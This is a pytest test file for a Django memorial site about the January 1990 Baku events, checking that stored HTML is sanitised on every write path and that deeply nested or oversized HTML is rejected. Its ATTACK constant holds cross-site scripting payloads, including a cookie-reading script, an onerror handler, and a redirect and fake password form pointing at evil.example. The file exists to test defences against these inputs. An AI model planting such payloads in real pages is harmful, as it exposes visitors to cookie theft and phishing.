"""Rich text is sanitised on every path that writes it, and its cost is bounded first."""

import json

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command

from memorial.articles.models import Article
from memorial.commemorations.models import Commemoration
from memorial.core.html import MAX_HTML_DEPTH, MAX_HTML_LENGTH, html_depth, sanitize_html
from memorial.events.models import Event
from tests import factories

pytestmark = pytest.mark.django_db

#: What a tampered file or a pasted text carries to visitors' browsers.
ATTACK = (
    "<p>Troops entered the city.</p><script>alert(document.cookie)</script>"
    '<img src="x" onerror="alert(1)">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<form action="https://evil.example/"><input name="password"></form>'
    '<a href="javascript:alert(2)">more</a>'
)
GONE = ("<script", "onerror", "<meta", "http-equiv", "<form", "<input", "javascript:")


def assert_clean(text):
    assert "Troops entered the city." in text
    for fragment in GONE:
        assert fragment not in text


def saved_by_the_shell():
    event = factories.make_event(body_en=ATTACK, body_ru=ATTACK)
    assert_clean(event.body_en)  # the object in hand is clean too
    return Event.objects.get(pk=event.pk)


def changed_by_update():
    event = factories.make_event()
    Event.objects.filter(pk=event.pk).update(body_en=ATTACK, body_ru=ATTACK)
    return Event.objects.get(pk=event.pk)


def created_in_bulk():
    source = factories.make_source()
    (event,) = Event.objects.bulk_create(
        [
            Event(
                slug="bulk",
                title_en="Bulk",
                kind="main",
                start_precision="unknown",
                body_en=ATTACK,
                body_ru=ATTACK,
            )
        ]
    )
    event.sources.set([source])
    return Event.objects.get(slug="bulk")


def loaded_by_loaddata(tmp_path):
    source = factories.make_source()
    fixture = tmp_path / "events.json"
    entry = {
        "model": "events.event",
        "fields": {
            "slug": "loaded",
            "title_en": "Loaded",
            "kind": "main",
            "start_precision": "unknown",
            "body_en": ATTACK,
            "body_ru": ATTACK,
            "sources": [[source.key]],
        },
    }
    fixture.write_text(json.dumps([entry]))
    call_command("loaddata", str(fixture), verbosity=0)
    return Event.objects.get(slug="loaded")


WRITERS = {
    "shell save": lambda tmp_path: saved_by_the_shell(),
    "queryset update": lambda tmp_path: changed_by_update(),
    "bulk_create": lambda tmp_path: created_in_bulk(),
    "loaddata": loaded_by_loaddata,
}


@pytest.mark.parametrize("write", WRITERS.values(), ids=WRITERS.keys())
def test_every_write_path_stores_sanitised_html(write, tmp_path):
    """Whatever writes a body (raw loaddata saves and update() included), the stored text is clean.

    The admin and the loader are covered in tests/admin/test_bad_input.py and
    tests/core/test_loader.py, a restored archive in tests/core/test_backup.py.
    """
    event = write(tmp_path)
    assert_clean(event.body_en)
    assert_clean(event.body_ru)
    for fragment in GONE:
        assert fragment not in event.search_key


def test_sanitised_html_is_shown_to_visitors(client):
    """The event page shows the formatting and none of the attack."""
    event = changed_by_update()
    page = client.get(event.get_absolute_url()).content.decode()
    assert "<p>Troops entered the city.</p>" in page
    for fragment in ("alert(", "onerror", "evil.example", 'name="password"'):
        assert fragment not in page


def test_the_history_keeps_the_sanitised_text():
    event = saved_by_the_shell()
    assert_clean(event.history.latest().body_en)


def nested(depth):
    return "<div>" * depth + "words" + "</div>" * depth


def long_article():
    """About 20,000 words in 400 paragraphs, with lists, a table, quotes and links."""
    paragraph = (
        "<p>On the night of 19 January 1990 <strong>Soviet troops</strong> entered Baku; "
        'witnesses (<a href="https://example.org/report">the report</a>, p. 12) describe '
        "<em>armoured columns</em> on the avenues and shooting into homes and cars. "
        "The next morning the city woke to a curfew that no one had announced.</p>\n"
    )
    extras = (
        "<blockquote><p>“We did not know what had happened until morning.”</p>"
        "<cite>A resident of Nasimi district</cite></blockquote>\n"
        "<ul><li>First</li><li>Second <em>with emphasis</em></li><li>Third</li></ul>\n"
        '<table><thead><tr><th scope="col">Date</th><th scope="col">Killed</th></tr></thead>'
        "<tbody><tr><td>20 January</td><td>131</td></tr></tbody></table>\n"
    )
    return (paragraph * 10 + extras) * 40


def test_a_long_realistic_article_passes_the_bounds():
    body = long_article()
    assert 100_000 < len(body) < MAX_HTML_LENGTH
    assert html_depth(body) < 10
    event = factories.make_event(body_en=body)
    event.full_clean()
    assert event.body_en.count("<blockquote>") == 40


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (nested(100_000), "html_too_long"),
        (nested(10_000), "html_too_deep"),
        (nested(MAX_HTML_DEPTH + 1), "html_too_deep"),
        ("<ul><li>" * 60, "html_too_deep"),
        ('<div title="<">' * 200, "html_too_deep"),
        ("<!-->" + "<div>" * 200 + "-->", "html_too_deep"),
        ('<div x">' * 200, "html_too_deep"),
        ("<svg><div></svg>" * 100, "html_too_deep"),
        ("<p>" + "x" * MAX_HTML_LENGTH + "</p>", "html_too_long"),
    ],
    ids=[
        "100,000 divs",
        "10,000 divs",
        "one level too many",
        "unclosed lists",
        "quoted angle bracket",
        "abrupt comment",
        "stray quote",
        "foreign content",
        "too long",
    ],
)
def test_text_too_deep_or_too_long_is_refused_before_the_sanitiser(body, code):
    """The bounds are checked by a linear scan; the sanitiser never sees such a text."""
    with pytest.raises(ValidationError) as error:
        sanitize_html(body)
    assert error.value.code == code
    event = factories.make_event()
    event.body_en = body
    with pytest.raises(ValidationError) as error:
        event.full_clean()
    assert [e.code for e in error.value.error_dict["body_en"]] == [code]


def test_nesting_up_to_the_limit_is_accepted():
    assert sanitize_html(nested(MAX_HTML_DEPTH)).count("words") == 1
    assert html_depth("<p>one<p>two<p>three" * 100) == 1
    assert html_depth("<ul><li>one<li>two</ul>" * 200) == 2
    assert html_depth('<a title="a > b">x</a>' * 200) == 1
    assert html_depth("<br><img src=x><hr>" * 200) == 0


def test_a_raw_save_of_a_deep_text_stores_nothing(tmp_path):
    """loaddata skips validation, but the field still refuses to store what it cannot clean."""
    factories.make_source(key="omm")
    fixture = tmp_path / "commemorations.json"
    entry = {
        "model": "commemorations.commemoration",
        "fields": {"year": 2000, "date": "2000-01-20", "description_en": nested(5000)},
    }
    fixture.write_text(json.dumps([entry]))
    with pytest.raises(Exception, match="nested too deeply"):
        call_command("loaddata", str(fixture), verbosity=0)
    assert not Commemoration.objects.exists()


def test_article_and_commemoration_bodies_are_rich_text_too():
    article = factories.make_article(body_en=ATTACK)
    commemoration = Commemoration.objects.create(
        year=2001, date="2001-01-20", description_en=ATTACK
    )
    assert_clean(Article.objects.get(pk=article.pk).body_en)
    assert_clean(Commemoration.objects.get(pk=commemoration.pk).description_en)
